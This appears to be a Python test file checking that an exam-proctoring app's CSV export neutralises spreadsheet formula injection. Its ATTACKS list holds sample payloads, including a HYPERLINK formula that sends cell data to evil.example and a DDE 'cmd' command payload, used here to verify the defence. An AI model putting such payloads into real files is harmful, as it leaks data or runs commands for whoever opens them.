"""Every CSV examdesk writes: no cell a spreadsheet would take for a formula (OWASP)."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from proctoring.csvfile import FORMULA_START, csv_bytes, restore_cell, safe_cell

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Xem")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1", "\x00=1",
           "'=already marked"]


def _cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_formula_cells_get_the_text_mark() -> None:
    rows = _cells(csv_bytes(["name"], [[a] for a in ATTACKS]))
    for attack, (written,) in zip(ATTACKS, rows[1:], strict=True):
        assert written == "'" + attack  # the value stays readable behind the mark
        assert restore_cell(written) == attack


def test_every_cell_is_quoted_so_a_semicolon_cannot_open_a_cell() -> None:
    # Vietnamese Excel splits on ";": unquoted, "a;=1+1" would become a formula cell.
    raw = csv_bytes(["a"], [["An;=1+1"], [3]]).decode("utf-8-sig")
    assert raw == '"a"\r\n"An;=1+1"\r\n"3"\r\n'


def test_numbers_the_product_writes_stay_numbers() -> None:
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) == ""
    assert safe_cell("-3") == "'-3"  # the same as text may come from outside: marked


def test_plain_text_is_untouched() -> None:
    for text in ("Nguyễn Văn An", "001093014275", "2025-06-12T08:00:00+07:00", "'quoted", "",
                 "O'Neil"):
        assert safe_cell(text) == text and restore_cell(text) == text


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=" a'=+-@\t\r\x00;,\"\n", max_size=6) | st.text(max_size=12),
                min_size=1, max_size=4))
def test_no_written_cell_starts_a_formula_and_import_gets_it_back(row: list[str]) -> None:
    written = _cells(csv_bytes(["c"] * len(row), [row]))[1]
    for original, cell in zip(row, written, strict=True):
        assert cell[:1] not in FORMULA_START and cell.lstrip(" ")[:1] not in set("=+-@")
        if "\r" not in original:  # the csv module reads a lone CR back as a line break
            assert restore_cell(cell) == original
